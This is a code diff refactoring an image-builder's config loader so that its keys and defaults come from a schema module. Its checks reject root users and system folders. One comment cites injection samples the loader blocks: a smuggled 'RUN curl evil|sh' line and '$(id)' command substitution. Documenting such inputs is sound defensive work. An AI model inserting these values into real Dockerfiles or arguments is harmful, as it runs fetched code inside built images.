@@ -22,28 +22,23 @@ from typing import Any
 from ..errors import InputError, Where, did_you_mean, unknown_key
 from ..secrets.redact import looks_secret
 from ..smoke.suite import gpu_peak
-from . import certs, grammar, source
+from . import certs, grammar, schema, source
 from .compat import CompatTable, Variant, os_python, torch_index_url
 
 # Every value is checked against a strict grammar for its kind (`grammar`) before it can reach a
 # Dockerfile, so `2.6.0\nRUN curl evil|sh`, `$(id)` or a URL ending in `;#` are never rendered.
 PATTERNS = grammar.PATTERNS
-AXES = ("torch", "accelerator", "python", "flavor", "base_image")
+AXES = schema.names(schema.AXIS, under="matrix")
 TORCH_EXTRAS = ("torchvision", "torchaudio")
-ENTRY_ONLY_KEYS = ("name",)
-CASCADED_KEYS = (
-    "base_image", "registry", "repository", "layers", "layers_path", "build", "tags", "aliases", "vars",
-    "torch_extras", "smoke", "user",
-    "nccl", "cudnn", "allow_major_override",
-)
+ENTRY_ONLY_KEYS = schema.names(schema.INCLUDE)
+CASCADED_KEYS = schema.names(schema.ENTRY)
 OVERRIDABLE = {"nccl": "nvidia-nccl-cu", "cudnn": "nvidia-cudnn-cu"}  # entry key -> wheel name prefix
-TOP_KEYS = ("version", "matrix", "exclude", "include", "not_secrets", *CASCADED_KEYS)
-BUILD_KEYS = ("ca_bundle", "wheelhouse", "pip_index_url", "index_url", "network", "cuda_toolkit")
-USER_KEYS = ("name", "uid", "gid", "workdir")
+TOP_KEYS = (*schema.names(schema.TOP), *CASCADED_KEYS)
+BUILD_KEYS = schema.names(under="build")
+USER_KEYS = schema.names(under="user")
 CPU_FLOOR_MIN = 10.0  # GFLOP/s: cpu_floor.json measured a best of 77-100 on this CI machine (2 cores, idle)
 FLOOR_RANGE = (0.3, 1.0)  # the throughput floor, a fraction of peak: lower would let a broken image through
-SMOKE_KEYS = ("timeout", "shm_size", "gpus", "driver_dir", "throughput_floor", "cpu_gflops_floor", "env", "allow_skip",
-              "gpu_floors")
+SMOKE_KEYS = schema.names(under="smoke")
 # Immutable tags name one image forever (the content key makes them unique); aliases float to the newest
 # image once every entry they cover passed. Entry ids are {torch}-{accelerator}-py{python}-{flavor}[-{base}].
 DEFAULT_TAGS = ("{entry}-{layer}-{key12}",)
@@ -249,6 +244,12 @@ class _Loader:
                             "IMAGEBUILDER_INDEX_PASSWORD or in ~/.netrc: pip reaches the index through "
                             "imagebuilder's loopback proxy, and nothing of them enters an image")
         raise self.fail(problem, path, hint=grammar.hint("url"))
+
+    def setting(self, merged: Mapping[str, Any], name: str) -> str:
+        """A value of a merged mapping (`build`, `smoke`, `user`), or the schema's default; checked against
+        the schema's kind for the key."""
+        key = schema.key(name)
+        return self.scalar(merged.get(key.leaf, key.default), key.kind, tuple(name.split(".")))
 
     def mapping(self, value: Any, path: tuple[str | int, ...], allowed: tuple[str, ...]) -> dict[str, Any]:
         if not isinstance(value, dict):
@@ -480,20 +481,19 @@ class _Loader:
         """`user: {name, uid, gid, workdir}` (entry keys override the top-level ones); never root."""
         merged = {**self.mapping(top.get("user") or {}, ("user",), USER_KEYS),
                   **self.mapping(combo.get("user") or {}, ("user",), USER_KEYS)}
-        default = UserSpec()
-        name = self.scalar(merged.get("name", default.name), "username", ("user", "name"))
+        name = self.setting(merged, "user.name")
         if name == "root":
             raise self.fail("images run as a non-root user; `root` is not allowed here", ("user", "name"))
         ids = {}
         for key in ("uid", "gid"):
-            raw = merged.get(key, getattr(default, key))
+            raw = merged.get(key, schema.default(f"user.{key}"))
             if raw == 0 or raw == "0":
                 raise self.fail(f"{key} 0 is root; images run as a non-root user", ("user", key),
                                 hint="the default is 1000; use the UID your cluster or volumes expect")
             ids[key] = int(self.scalar(raw, "id", ("user", key)))
             if ids[key] > 2**31 - 1:
                 raise self.fail(f"{key} {ids[key]} is out of range", ("user", key))
-        workdir = self.scalar(merged.get("workdir", default.workdir), "abspath", ("user", "workdir"))
+        workdir = self.setting(merged, "user.workdir")
         if workdir.rstrip("/") in ("", "/usr", "/etc", "/bin", "/lib", "/opt", "/var", "/tmp"):
             raise self.fail(f"workdir {workdir!r} is a system folder; it becomes the user's", ("user", "workdir"))
         return UserSpec(name, ids["uid"], ids["gid"], workdir)
@@ -624,7 +624,7 @@ class _Loader:
         wheelhouse = None
         if merged.get("wheelhouse") is not None:
             wheelhouse = self.path_value(merged["wheelhouse"], ("build", "wheelhouse"), want_dir=True)
-        index_url = self.scalar(merged.get("index_url", "https://pypi.org/simple"), "url", ("build", "index_url"))
+        index_url = self.setting(merged, "build.index_url")
         piu = merged.get("pip_index_url")
         piu_path: tuple[str | int, ...] = ("build", "pip_index_url")
         if isinstance(piu, dict):
@@ -641,8 +641,9 @@ class _Loader:
                 raise self.fail(f"unknown placeholder {{{unknown[0]}}} in {piu!r}; only {{accelerator}} is known",
                                 piu_path)
             torch_url = self.url(piu, piu_path, ("accelerator",)).replace("{accelerator}", variant.accelerator)
-        network = self.scalar(merged.get("network", "host"), "network", ("build", "network"))
-        toolkit = self.choice(merged.get("cuda_toolkit", "pip"), ("pip", "image"), ("build", "cuda_toolkit"))
+        network = self.setting(merged, "build.network")
+        toolkit = self.choice(merged.get("cuda_toolkit", schema.default("build.cuda_toolkit")), ("pip", "image"),
+                              ("build", "cuda_toolkit"))
         return BuildSettings(ca, wheelhouse, torch_url, index_url, network, toolkit)
 
     def ca_bundle(self, path: Path, what: str, key: tuple[str | int, ...]) -> None:
@@ -661,18 +662,17 @@ class _Loader:
     def smoke_settings(self, top: dict[str, Any], combo: dict[str, Any]) -> SmokeSettings:
         merged = {**self.mapping(top.get("smoke") or {}, ("smoke",), SMOKE_KEYS),
                   **self.mapping(combo.get("smoke") or {}, ("smoke",), SMOKE_KEYS)}
-        timeout = int(self.scalar(merged.get("timeout", "900"), "int", ("smoke", "timeout")))
-        shm = self.scalar(merged.get("shm_size", "2g"), "size", ("smoke", "shm_size"))
-        gpus = self.scalar(merged.get("gpus", "auto"), "gpus", ("smoke", "gpus"))
-        driver_dir = self.scalar(merged.get("driver_dir", "/usr/local/nvidia"), "abspath", ("smoke", "driver_dir"))
-        floor = float(self.scalar(merged.get("throughput_floor", "0.6"), "fraction", ("smoke", "throughput_floor")))
+        timeout = int(self.setting(merged, "smoke.timeout"))
+        shm = self.setting(merged, "smoke.shm_size")
+        gpus = self.setting(merged, "smoke.gpus")
+        driver_dir = self.setting(merged, "smoke.driver_dir")
+        floor = float(self.setting(merged, "smoke.throughput_floor"))
         if not FLOOR_RANGE[0] <= floor <= FLOOR_RANGE[1]:  # below it the throughput check would pass anything
             low, high = FLOOR_RANGE
             raise self.fail(f"throughput_floor {floor:g} is outside [{low:g}, {high:g}] (a fraction of the GPU "
                             "model's dense bf16 peak)", ("smoke", "throughput_floor"),
                             hint="0.6 is the default; a slower GPU host still clears 0.3")
-        cpu_floor = float(self.scalar(merged.get("cpu_gflops_floor", str(SmokeSettings.cpu_gflops_floor)), "float",
-                                      ("smoke", "cpu_gflops_floor")))
+        cpu_floor = float(self.setting(merged, "smoke.cpu_gflops_floor"))
         if cpu_floor < CPU_FLOOR_MIN:  # below it a CPU matmul ten times slower than this CI machine's still passes
             raise self.fail(f"cpu_gflops_floor {cpu_floor:g} is below {CPU_FLOOR_MIN:g} GFLOP/s, where the check "
                             "would pass a broken image", ("smoke", "cpu_gflops_floor"),
